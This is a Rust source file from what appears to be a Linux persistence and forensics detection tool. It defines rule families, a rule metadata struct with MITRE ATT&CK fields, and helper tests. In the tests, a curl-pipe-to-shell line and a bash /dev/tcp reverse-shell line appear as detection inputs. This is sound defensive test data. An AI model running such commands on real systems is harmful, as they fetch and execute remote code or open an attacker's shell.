//! The built-in rules. Each documents what it catches, its MITRE ATT&CK technique and its
//! known false positives (shown by `dossier rules --long`). Weights and severities are defaults;
//! the playbook may change them.
//!
//! One file per family; [`CATALOG`] (in `catalog.rs`, a table and nothing else) lists them all
//! in report order. Rules read only the parsed bundle ([`crate::context`]) and the playbook
//! ([`crate::config`]); the engine runs them. Inside the folder, [`common`] (findings, paths,
//! locations) is at the bottom, [`content`] (what a command line or script does) on it, and the
//! families on both; `catalog` sits on top of the families.

pub mod accounts;
pub mod antiforensics;
mod catalog;
pub mod common;
pub mod content;
pub mod cron;
pub mod exec;
pub mod hooks;
pub mod loader;
pub mod logins;
pub mod network;
pub mod paths;
pub mod privileged;
pub mod process;
pub mod shells;
pub mod sshd;
pub mod strings;
pub mod unitenv;
pub mod units;
pub mod userpersist;

pub use catalog::CATALOG;

use crate::config::AnalysisConfig;
use crate::context::Ctx;
use crate::input::BundleInput;
use dossier_plugin_api::analysis::{Class, Finding, Severity};

/// A rule as the engine runs it.
pub struct RuleInfo {
    pub id: &'static str,
    pub title: &'static str,
    pub mitre: &'static [&'static str],
    pub severity: Severity,
    pub weight: u32,
    /// Behaviour (what a thing does: scored) or context (provenance: shown, boosts behaviour
    /// on the same subject). A behaviour rule may still mark some findings as context: then
    /// `context_when` says when.
    pub class: Class,
    /// When a behaviour rule's findings are context instead.
    pub context_when: Option<&'static str>,
    /// Kinds of facts (`Finding::fact`, `fileless-exe`, `exe-location`) the rule reports and
    /// other rules may report too: one observation counts once, under the strongest rule.
    pub shares: &'static [&'static str],
    /// Collectors whose records the rule reads.
    pub needs: &'static [&'static str],
    /// Needs package ownership (a package database in the bundle).
    pub needs_packages: bool,
    /// Needs at least one record of each `(collector, kind)`: data a collector that ran may
    /// still lack (loaded modules exist only on live hosts).
    pub needs_kinds: &'static [(&'static str, &'static str)],
    /// What it catches and its false positives.
    pub doc: &'static str,
    pub run: fn(&Ctx, &AnalysisConfig, &mut BundleInput<'_>) -> Vec<Finding>,
}

#[cfg(test)]
mod tests {
    use super::common::*;
    use super::content::*;
    use super::units::span_seconds;

    #[test]
    fn rc_links() {
        assert_eq!(
            rc_link_target("/etc/rc2.d/S01cron", "../init.d/cron"),
            "/etc/init.d/cron"
        );
        assert_eq!(rc_link_target("/etc/rc2.d/S01x", "/opt/x"), "/opt/x");
    }

    #[test]
    fn helpers() {
        assert!(names_match("ssh.service", "sshd"));
        assert!(names_match("nginx.service", "nginx"));
        assert!(names_match("systemd-journald.service", "systemd-journald"));
        assert!(!names_match("python.service", "log"));
        assert!(unusual_location("/var/log/log").is_some());
        assert!(unusual_location("/home/a/.cache/x").is_some());
        assert!(unusual_location("/usr/bin/ls").is_none());
        assert_eq!(span_seconds("5min"), Some(300));
        assert_eq!(span_seconds("1h 5min"), Some(3900));
        assert_eq!(span_seconds("daily"), None);
        assert!(hook_line_pattern("curl -fsSL http://x/a.sh | sh").is_some());
        assert!(hook_line_pattern("/bin/bash -c 'exec 5<>/dev/tcp/1.2.3.4/4444'").is_some());
        assert!(hook_line_pattern("/bin/sh -c 'echo hi'").is_none());
        assert!(
            hook_line_pattern(
                "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )"
            )
            .is_none()
        );
        assert_eq!(
            segment_programs("test -e /run/x || SERVICE_MODE=1 /usr/lib/e2scrub_all_cron"),
            vec!["/usr/lib/e2scrub_all_cron"]
        );
    }
}
